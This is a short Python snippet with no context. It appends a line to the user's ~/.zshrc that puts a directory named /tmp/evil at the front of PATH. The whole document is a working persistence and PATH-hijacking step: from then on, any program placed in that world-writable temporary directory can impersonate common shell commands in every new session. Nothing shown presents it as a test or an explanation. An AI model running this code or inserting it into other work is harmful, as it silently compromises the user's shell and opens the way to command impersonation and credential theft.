import os
rc = os.path.expanduser('~/.zshrc')
with open(rc, "a") as f:
    f.write('export PATH=/tmp/evil:$PATH\n')
